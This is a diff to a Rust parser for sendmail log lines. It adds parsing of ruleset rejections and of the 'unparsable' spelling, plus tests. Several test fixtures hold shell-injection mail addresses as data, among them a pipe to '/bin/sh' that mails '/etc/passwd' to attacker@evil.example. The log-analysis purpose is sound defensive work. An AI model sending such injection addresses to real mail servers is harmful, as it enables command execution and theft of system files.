@@ -10,7 +10,13 @@
 //! - `QID: BOUNCEQID: return to sender: ...` (`DSN:` from 8.12, `postmaster notify:`,
 //!   `sender notify:`): the bounce gets a new queue id, and this line is the only link;
 //! - `setsender: ADDR: invalid or unparseable, received from ...` (older: `from=ADDR
-//!   unparseable, received from ...`), often without a queue id;
+//!   unparseable, received from ...`), often without a queue id; sendmail 8.12 and later
+//!   spell it `invalid or unparsable` (`QID: setsender: <"|/bin/sh -c '...'">: invalid
+//!   or unparsable, received from [IP]`, as Debian's 8.17 writes it);
+//! - `QID: ruleset=check_rcpt, arg1=ADDR, relay=HOST [IP], reject=553 5.1.8 ADDR... TEXT`
+//!   (8.9 and later): an address refused by a check ruleset of the configuration
+//!   (`check_rcpt`, `check_mail`; under Debian's `delay_checks` a sender whose domain does
+//!   not resolve makes every recipient refused this way, programs and files included);
 //! - `[QID: ]ADDR... TEXT` (a user error such as `Cannot mail directly to files`);
 //! - `[QID: ]"wiz" command from CLIENT (IP)` (also `"debug"`, `"showq"`): door-handle
 //!   commands that sendmail 8 traps and logs at LOG_CRIT.
@@ -75,6 +81,18 @@ pub enum SmLine<'a> {
         /// The client, as logged after `received from`.
         source: Option<&'a [u8]>,
     },
+    /// `[QID: ]ruleset=check_rcpt|check_mail, arg1=ADDR, ..., reject=...`: an address a
+    /// check ruleset refused.
+    Rejected {
+        /// The queue id, when sendmail logged one.
+        qid: Option<&'a [u8]>,
+        /// The refused address (`arg1=`).
+        addr: &'a [u8],
+        /// Sender (`check_mail`) or recipient (`check_rcpt`).
+        role: Role,
+        /// The client, from `relay=`.
+        source: Option<&'a [u8]>,
+    },
     /// `[QID: ]ADDR... TEXT`, a user error about one address.
     AddrError {
         /// The queue id, when sendmail logged one.
@@ -110,6 +128,7 @@ impl<'a> SmLine<'a> {
             | SmLine::Bounce { qid, .. }
             | SmLine::Other { qid } => Some(qid),
             SmLine::Unparseable { qid, .. }
+            | SmLine::Rejected { qid, .. }
             | SmLine::AddrError { qid, .. }
             | SmLine::BogusCommand { qid, .. } => qid,
         }
@@ -136,13 +155,18 @@ const KEYS: &[&[u8]] = &[
     b"received",
     b"tls_verify",
     b"auth",
+    b"arg1",
+    b"arg2",
+    b"reject",
+    b"quarantine",
 ];
 
 /// Parses the message part of a sendmail line. `None` for lines of no use here.
 pub fn parse(message: &[u8]) -> Option<SmLine<'_>> {
     let (qid, rest) = match split_qid(message) {
         Some((qid, rest)) => (Some(qid), rest),
-        None => (None, message),
+        // sendmail's placeholder before a queue id exists.
+        None => (None, message.strip_prefix(b"NOQUEUE: ").unwrap_or(message)),
     };
     if let Some(qid) = qid {
         if let Some(value) = rest.strip_prefix(b"message-id=") {
@@ -191,16 +215,41 @@ pub fn parse(message: &[u8]) -> Option<SmLine<'_>> {
 /// The shapes that sendmail may log with or without a queue id.
 fn parse_qidless<'a>(qid: Option<&'a [u8]>, rest: &'a [u8]) -> Option<SmLine<'a>> {
     if let Some(value) = rest.strip_prefix(b"setsender: ") {
-        let end = find(value, b": invalid or unparseable")?;
+        // 8.12+ writes `unparsable`, older versions `unparseable`.
+        let end = find(value, b": invalid or unparseable")
+            .or_else(|| find(value, b": invalid or unparsable"))?;
         let addr = value.get(..end)?;
         let source = after(value, b"received from ")
             .map(trim)
             .and_then(source_of);
         return Some(SmLine::Unparseable { qid, addr, source });
     }
+    if let Some(value) = rest.strip_prefix(b"ruleset=") {
+        let name = value.get(..memchr::memchr(b',', value)?)?;
+        let role = match name {
+            b"check_rcpt" => Role::Recipient,
+            b"check_mail" => Role::Sender,
+            _ => return None,
+        };
+        let rejected = [b"reject".as_slice(), b"quarantine", b"discard"]
+            .iter()
+            .any(|key| field(value, key).is_some())
+            || find(value, b", discard").is_some();
+        if !rejected {
+            return None;
+        }
+        let addr = field(value, b"arg1")?;
+        let source = field(value, b"relay").and_then(source_of);
+        return Some(SmLine::Rejected {
+            qid,
+            addr,
+            role,
+            source,
+        });
+    }
     // Older sendmail: `from=ADDR unparseable, received from HOST`.
     if let Some(value) = rest.strip_prefix(b"from=") {
-        let end = find(value, b" unparseable")?;
+        let end = find(value, b" unparseable").or_else(|| find(value, b" unparsable"))?;
         let addr = value.get(..end)?;
         let source = after(value, b"received from ")
             .map(trim)
@@ -692,6 +741,38 @@ mod tests {
             parse(b"setsender: |/bin/sh: invalid or unparseable, received from evil.example [192.0.2.1]"),
             Some(SmLine::Unparseable { qid: None, addr: b"|/bin/sh", source: Some(b"192.0.2.1") })
         );
+        // As Debian's sendmail 8.17 wrote them (tests/fixtures/live/sendmail-8.17).
+        assert_eq!(
+            parse(b"6B7CtSBt000171: setsender: <\"|/bin/sh -c 'cat /etc/passwd | mail attacker@evil.example'\">: invalid or unparsable, received from [127.0.0.21]"),
+            Some(SmLine::Unparseable {
+                qid: Some(b"6B7CtSBt000171"),
+                addr: b"<\"|/bin/sh -c 'cat /etc/passwd | mail attacker@evil.example'\">",
+                source: Some(b"127.0.0.21")
+            })
+        );
+        assert_eq!(
+            parse(b"6B7Ctkbh000191: ruleset=check_rcpt, arg1=<\"|/bin/sh -c 'id > /tmp/pwned'\">, relay=[127.0.0.37], reject=553 5.1.8 <\"|/bin/sh -c 'id > /tmp/pwned'\">... Domain of sender address attacker@nowhere.invalid does not exist"),
+            Some(SmLine::Rejected {
+                qid: Some(b"6B7Ctkbh000191"),
+                addr: b"<\"|/bin/sh -c 'id > /tmp/pwned'\">",
+                role: Role::Recipient,
+                source: Some(b"127.0.0.37")
+            })
+        );
+        assert_eq!(
+            parse(b"NOQUEUE: ruleset=check_mail, arg1=<|/bin/sh>, relay=evil.example [192.0.2.9], reject=553 5.1.7 <|/bin/sh>... Invalid sender"),
+            Some(SmLine::Rejected {
+                qid: None,
+                addr: b"<|/bin/sh>",
+                role: Role::Sender,
+                source: Some(b"192.0.2.9")
+            })
+        );
+        // A ruleset that accepted, or one about the connection, names no refused address.
+        assert_eq!(
+            parse(b"ruleset=check_relay, arg1=evil.example, arg2=192.0.2.9, relay=evil.example [192.0.2.9], reject=550 5.7.1 Access denied"),
+            None
+        );
         assert_eq!(
             parse(b"\"wiz\" command from evil.example [192.0.2.7] (192.0.2.7)"),
             Some(SmLine::BogusCommand {
@@ -784,6 +865,11 @@ mod tests {
             b"\xff\xfe: to=\xff",
             b"AA01234: from=x, relay=[",
             b"AA01234: from=x, relay=(",
+            b"ruleset=",
+            b"ruleset=check_rcpt,",
+            b"ruleset=check_rcpt, arg1=, reject=",
+            b"AA01234: ruleset=check_mail, reject=553, arg1=\"",
+            b"setsender: x: invalid or unparsable",
         ];
         for sample in samples {
             let _ = parse(sample);
